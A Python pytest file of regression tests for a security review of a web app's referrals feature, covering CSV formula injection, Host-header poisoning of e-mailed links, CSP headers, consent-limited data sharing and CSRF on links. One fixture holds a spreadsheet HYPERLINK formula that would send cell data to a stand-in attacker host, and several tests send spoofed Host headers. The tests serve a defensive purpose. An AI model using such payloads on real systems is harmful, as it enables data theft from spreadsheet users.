"""Issue 20 (security review) in the referrals area: each test guards one finding."""

import csv
import hashlib
import io
import os

import pytest
from itsdangerous import URLSafeTimedSerializer

import fieldapp.accounts  # noqa: F401  (blueprint imports must start at accounts)

# isort: split
from fieldapp import trusted_hosts
from fieldapp.db import connect
from fieldapp.referrals import lifecycle, mail, store
from fieldapp.security import CSP
from tests.support import DEMO_PASSWORD, NOW, login, make_app
from tests.support.referrals import (
    OFFICER2_ID,
    OFFICER_ID,
    PARTNER_ID,
    SVC_CRISIS,
    add_contact,
    add_services,
    body_of,
    client_for,
    forget_queued_mail,
    referral_item,
    send_mail,
    user_row,
)

HX = {"HX-Request": "true"}
PREFERRED = "CANARY-preferred-contact-3e1f"
BASE_URL = "https://fieldapp.example.org"


def send(app, db, **overrides) -> str:
    item = referral_item(**overrides)
    with app.app_context():
        assert "created" == store.apply_referral(db, item, user_row(db, OFFICER_ID), NOW)[
            "status"]
    return item["id"]


def token_of(app, db, referral_id) -> str:
    link_id = db.execute("select id from referral_link where referral_id = ?",
                         [referral_id]).fetchone()[0]
    with app.test_request_context():
        return mail.make_token(link_id)


def rows_of(db, referral_id) -> tuple:
    """Everything a state change would touch: the referral, its events, its link."""
    return (db["referral"].get(referral_id),
            list(db.query("select * from referral_event where referral_id = ? order by id",
                          [referral_id])),
            list(db.query("select * from referral_link where referral_id = ?", [referral_id])))


def csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


# --- 6. CSV formula injection ------------------------------------------------------------------


def test_referrals_export_csv_writes_formula_like_cells_as_text(referral_app):
    app, db = referral_app
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    db["service"].update(SVC_CRISIS, {"name": formula})
    send(app, db)
    for who in ("partner", "coordinator"):
        cells = csv_cells(client_for(app, who).get("/referrals/export.csv"))
        column = cells[0].index("service_name")
        assert ["'" + formula] == [row[column] for row in cells[1:]]
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)


# --- 7. e-mailed links on BASE_URL; trusted hosts ------------------------------------------------


@pytest.fixture
def mail_app(tmp_path, smtp):
    """An app that mails to the aiosmtpd sink; config per test."""
    inbox, port = smtp

    def _make(**config):
        app = make_app(tmp_path, NOW=NOW, SMTP_HOST="127.0.0.1", SMTP_PORT=port,
                       SMTP_FROM="fieldapp@demo.test", MAIL_SEND_AFTER_REQUEST=False, **config)
        db = connect(app.config["DATABASE"])
        add_services(db)
        forget_queued_mail(db)
        return app, db, inbox

    return _make


def post_on(client, base_url: str, path: str, data: dict):
    """POST with a valid CSRF token to `base_url` (the test client's cookies are per host)."""
    with client.session_transaction(base_url=base_url) as session:
        raw = session.setdefault("csrf_token", hashlib.sha1(os.urandom(64)).hexdigest())
    token = URLSafeTimedSerializer(client.application.secret_key,
                                   salt="wtf-csrf-token").dumps(raw)
    return client.post(path, data=data, base_url=base_url, csrf=False,
                       headers={"X-CSRFToken": token})


def officer_on(app, base_url: str):
    client = app.test_client()
    assert 302 == post_on(client, base_url, "/login", {
        "email": "officer@demo.test", "password": DEMO_PASSWORD}).status_code
    return client


def post_referral(client, host: str, *, untrusted: bool = False):
    """The referral form posted to `host` (an untrusted host gets no session to take a token
    from: the Host check answers before CSRF would)."""
    item = referral_item()
    data = {k: v for k, v in item.items() if k not in ("shared", "created_at")}
    data["shared"] = item["shared"]
    if untrusted:
        return item["id"], client.post("/referrals/new", data=data, csrf=False,
                                       base_url=f"http://{host}")
    return item["id"], post_on(client, f"http://{host}", "/referrals/new", data)


def test_the_e_mailed_link_is_on_base_url_whatever_host_the_request_named(mail_app):
    # Even a Host the proxy lets through (listed as trusted) never reaches the e-mail.
    app, db, inbox = mail_app(BASE_URL=BASE_URL,
                              TRUSTED_HOSTS=["fieldapp.example.org", "evil.example"])
    officer = officer_on(app, "http://evil.example")
    referral_id, response = post_referral(officer, "evil.example")
    assert 302 == response.status_code, response.get_data(as_text=True)[:300]
    send_mail(app)
    body = body_of(inbox.messages[0][1])
    assert "evil.example" not in body
    assert f"{BASE_URL}/referrals/link/" in body
    assert referral_id == db["referral"].get(referral_id)["id"]
    db.conn.close()


def test_in_production_without_base_url_the_e_mail_has_no_link_and_the_log_says_why(
        mail_app, caplog):
    app, db, inbox = mail_app(TESTING=False, DEBUG=False)
    assert app.config["TRUSTED_HOSTS"] is None  # nothing to derive them from
    officer = officer_on(app, "http://evil.example")
    _, response = post_referral(officer, "evil.example")
    assert 302 == response.status_code
    with caplog.at_level("WARNING"):
        send_mail(app)
    whole = inbox.messages[0][1].as_string()
    assert "evil.example" not in whole and "/referrals/link/" not in whole
    assert "referrals inbox" in body_of(inbox.messages[0][1])
    assert "BASE_URL is not set" in caplog.text
    db.conn.close()


def test_an_unknown_host_is_refused_with_400_and_nothing_is_sent(mail_app):
    app, db, inbox = mail_app(BASE_URL=BASE_URL)
    assert ["fieldapp.example.org"] == app.config["TRUSTED_HOSTS"]
    before = db["referral"].count
    anonymous = app.test_client()
    refused = anonymous.get("/login", base_url="http://evil.example")
    assert (400, "This address is not served here.") == (refused.status_code,
                                                         refused.get_data(as_text=True))
    assert CSP == refused.headers["Content-Security-Policy"]
    officer = officer_on(app, "http://fieldapp.example.org")
    _, response = post_referral(officer, "evil.example", untrusted=True)
    assert (400, "This address is not served here.") == (response.status_code,
                                                         response.get_data(as_text=True))
    send_mail(app)
    assert (before, []) == (db["referral"].count, inbox.messages)
    _, response = post_referral(officer, "fieldapp.example.org")
    send_mail(app)
    assert 302 == response.status_code and 1 == len(inbox.messages)
    db.conn.close()


def test_trusted_hosts_come_from_config_else_base_url_or_server_name_else_anything():
    assert trusted_hosts({}) is None  # development, the tests, the browser tests
    assert trusted_hosts({"BASE_URL": "https://fieldapp.example.org:8443/app"}) == [
        "fieldapp.example.org"]
    assert trusted_hosts({"SERVER_NAME": "fieldapp.example.org:443"}) == [
        "fieldapp.example.org"]
    assert trusted_hosts({"TRUSTED_HOSTS": "a.example, .b.example",
                          "BASE_URL": BASE_URL}) == ["a.example", ".b.example"]
    assert trusted_hosts({"TRUSTED_HOSTS": ["a.example"]}) == ["a.example"]


def test_without_trusted_hosts_the_test_client_and_local_addresses_still_work(referral_app):
    app, _ = referral_app
    assert app.config["TRUSTED_HOSTS"] is None
    for base in ("http://localhost", "http://127.0.0.1:5000"):
        assert 200 == app.test_client().get("/login", base_url=base).status_code


# --- 10. the status filter; error pages carry the CSP -------------------------------------------


def test_partner_filters_the_inbox_by_status_and_odd_values_are_ignored(referral_app):
    app, db = referral_app
    open_one, accepted = send(app, db), send(app, db)
    with app.app_context():
        lifecycle.transition(db, accepted, "accept", user=user_row(db, PARTNER_ID), now=NOW)
    partner = client_for(app, "partner")
    unanswered = partner.get("/referrals/?status=unanswered")
    assert 200 == unanswered.status_code
    body = unanswered.get_data(as_text=True)
    assert open_one in body and accepted not in body
    assert '<option value="unanswered" selected>' in body
    fragment = partner.get("/referrals/?status=accepted", headers=HX)
    assert 200 == fragment.status_code
    assert accepted in fragment.get_data(as_text=True)
    assert open_one not in fragment.get_data(as_text=True)
    for odd in ("302", "500", "204", "nonsense", ""):
        for who in ("partner", "coordinator"):
            response = client_for(app, who).get(f"/referrals/?status={odd}")
            assert (200, None) == (response.status_code, response.headers.get("Location"))
            assert open_one in response.get_data(as_text=True)


@pytest.fixture
def failing_app(tmp_path):
    """An app with a view that raises and a response hook that raises (errors not propagated,
    as in production)."""
    app = make_app(tmp_path, PROPAGATE_EXCEPTIONS=False)

    def broken_view():
        raise RuntimeError("a bug")

    def broken_hook(response):
        from flask import request

        if request.path == "/broken-hook":
            raise RuntimeError("a bug after the view")
        return response

    app.add_url_rule("/broken-view", "broken_view", broken_view)
    app.add_url_rule("/broken-hook", "broken_hook", lambda: "fine")
    app.after_request(broken_hook)  # runs before the security headers' hook
    return app


def test_every_error_page_carries_the_csp_500_included(failing_app):
    client = failing_app.test_client()
    login(client, "partner")
    answers = [client.get("/broken-view"), client.get("/broken-view", headers=HX),
               client.get("/broken-hook"), client.get("/referrals/no-such-referral"),
               client.post("/referrals/settings", csrf=False), client.put("/referrals/"),
               client.get("/api/broken-view-does-not-exist")]
    assert [500, 500, 500, 404, 400, 405, 404] == [r.status_code for r in answers]
    for response in answers:
        assert CSP == response.headers.get("Content-Security-Policy"), response.request.path
        assert "nosniff" == response.headers["X-Content-Type-Options"]


# --- 13. the preferred contact follows consent -----------------------------------------------


def test_preferred_contact_reaches_the_partner_only_with_the_shared_phone(referral_app):
    app, db = referral_app
    without_phone = send(app, db, shared=["name", "note"], preferred_contact=PREFERRED)
    assert db["referral"].get(without_phone)["preferred_contact"] is None  # not even stored
    # A row stored before the fix (or an information-only one) still shows nothing.
    legacy = send(app, db, shared=["name", "note"])
    info_only = send(app, db, consent="none", shared=[], person_name=None, handoff_note=None)
    for referral_id in (legacy, info_only):
        db["referral"].update(referral_id, {"preferred_contact": PREFERRED})
    partner = client_for(app, "partner")
    seen = [partner.get("/referrals/"), partner.get("/referrals/", headers=HX),
            partner.get("/referrals/?status=unanswered"),
            partner.post("/referrals/search", data={"q": "Sam"}, headers=HX),
            partner.get("/referrals/export.csv")]
    for referral_id in (without_phone, legacy, info_only):
        seen += [partner.get(f"/referrals/{referral_id}"),
                 partner.get(f"/referrals/{referral_id}/status", headers=HX),
                 partner.get(f"/referrals/link/{token_of(app, db, referral_id)}")]
    seen.append(partner.post(f"/referrals/{legacy}/accept", data={"fragment": "row"},
                             headers=HX))
    for response in seen:
        assert response.status_code < 400, response.request.path
        assert PREFERRED not in response.get_data(as_text=True), response.request.path
    with_phone = send(app, db, preferred_contact=PREFERRED)  # name, phone, note shared
    assert PREFERRED in partner.get(f"/referrals/{with_phone}").get_data(as_text=True)


def test_the_e_mail_never_carries_the_preferred_contact(mail_app):
    app, db, inbox = mail_app()
    for shared in (["name", "phone", "note"], ["name"]):
        with app.test_request_context():
            store.apply_referral(db, referral_item(shared=shared, preferred_contact=PREFERRED),
                                 user_row(db, OFFICER_ID), NOW)
    send_mail(app)
    assert 2 == len(inbox.messages)
    assert not any(PREFERRED in message.as_string() for _, message in inbox.messages)
    db.conn.close()


# --- 14. another officer's contact on the referral form ------------------------------------------


def test_another_officers_contact_id_is_treated_as_absent_on_the_referral_form(referral_app):
    app, db = referral_app
    theirs = add_contact(db, officer_id=OFFICER2_ID, kind="mental_health")
    mine = add_contact(db, kind="mental_health")
    officer = client_for(app, "officer")
    page = officer.get(f"/referrals/new?contact_id={theirs}").get_data(as_text=True)
    assert "crisis services first" not in page
    assert f'value="{theirs}"' not in page  # the hidden fields carry no contact
    absent = officer.get("/referrals/services").get_data(as_text=True)
    assert absent == officer.get(f"/referrals/services?contact_id={theirs}").get_data(
        as_text=True)
    # Their own mental-health contact does put crisis services first.
    assert "crisis services first" in officer.get(
        f"/referrals/new?contact_id={mine}").get_data(as_text=True)


# --- 15. a synced referral's creation time ----------------------------------------------------


def test_sync_refuses_a_referral_created_in_the_future_or_before_2000_like_a_contact(referral_app):
    app, db = referral_app
    officer = client_for(app, "officer")
    items = [referral_item(created_at="2099-01-01T00:00:00+00:00"),
             referral_item(created_at="1999-12-31T23:59:59+00:00"),
             referral_item(created_at="2026-03-02T14:04:00+00:00"),  # within the clock skew
             referral_item(created_at="2026-03-02T10:00:00-04:00")]
    response = officer.post("/api/sync", json={"referrals": items})
    results = response.get_json()["results"]["referrals"]
    assert ["invalid", "invalid", "created", "created"] == [r["status"] for r in results]
    assert {"created_at"} == results[0]["errors"].keys() == results[1]["errors"].keys()
    assert db["referral"].get(items[3]["id"])["created_at"] == "2026-03-02T14:00:00+00:00"
    assert 0 == db.execute("select count(*) from referral where created_at >= '2027'"
                           ).fetchone()[0]


# --- 16. no GET changes a referral ------------------------------------------------------------


def test_opening_a_referral_as_the_partner_changes_nothing(referral_app):
    app, db = referral_app
    x = send(app, db)
    before = rows_of(db, x)
    partner = client_for(app, "partner")
    for response in (partner.get(f"/referrals/{x}"), partner.get(f"/referrals/{x}",
                                                                 headers=HX),
                     partner.get(f"/referrals/{x}/status", headers=HX)):
        assert 200 == response.status_code
    assert before == rows_of(db, x)
    assert 302 == partner.post(f"/referrals/{x}/receive").status_code
    assert ("received", NOW) == (db["referral"].get(x)["status"],
                                 db["referral"].get(x)["received_at"])


def test_mark_received_from_the_status_fragment_swaps_it_in_place(referral_app):
    app, db = referral_app
    x = send(app, db)
    response = client_for(app, "partner").post(f"/referrals/{x}/receive",
                                               data={"fragment": "status"}, headers=HX)
    body = response.get_data(as_text=True)
    assert 200 == response.status_code and body.lstrip().startswith('<article id="referral-status"')
    assert "Mark received" not in body and "Accept" in body


@pytest.mark.parametrize("accept_from_email", [False, True])
def test_opening_the_e_mailed_link_changes_nothing_and_the_button_posts(referral_app,
                                                                        accept_from_email):
    app, db = referral_app
    x = send(app, db)
    partner = client_for(app, "partner")
    if accept_from_email:
        partner.post("/referrals/settings", data={"accept_from_email": "1"})
    path = f"/referrals/link/{token_of(app, db, x)}"
    before = rows_of(db, x)
    page = partner.get(path)
    assert 200 == page.status_code
    assert f'action="{path}"' in page.get_data(as_text=True)
    assert 'name="csrf_token"' in page.get_data(as_text=True)
    assert before == rows_of(db, x)
    # A form on another site cannot post it: no CSRF token, nothing happens.
    assert 400 == partner.post(path, data={"accept": "1"}, csrf=False).status_code
    assert before == rows_of(db, x)
    assert 302 == partner.post(path, data={"accept": "1"}).status_code
    referral, events, (link,) = rows_of(db, x)
    expected = "accepted" if accept_from_email else "received"
    assert (expected, NOW) == (referral["status"], link["used_at"])
    assert ["sent", "received"] + (["accepted"] if accept_from_email else []) == [
        e["to_status"] for e in events]


def test_the_audit_trail_records_who_used_the_link_and_not_who_read_it(referral_app):
    app, db = referral_app
    x = send(app, db)
    partner = client_for(app, "partner")
    path = f"/referrals/link/{token_of(app, db, x)}"
    partner.get(path)
    partner.post(path)
    partner.post(path)
    assert [(PARTNER_ID, "ok"), (PARTNER_ID, "410")] == [
        (row["user_id"], row["outcome"]) for row in db.query(
            "select user_id, outcome from audit_event where object_id = ?"
            " and action = 'referral_link' order by id", [x])]
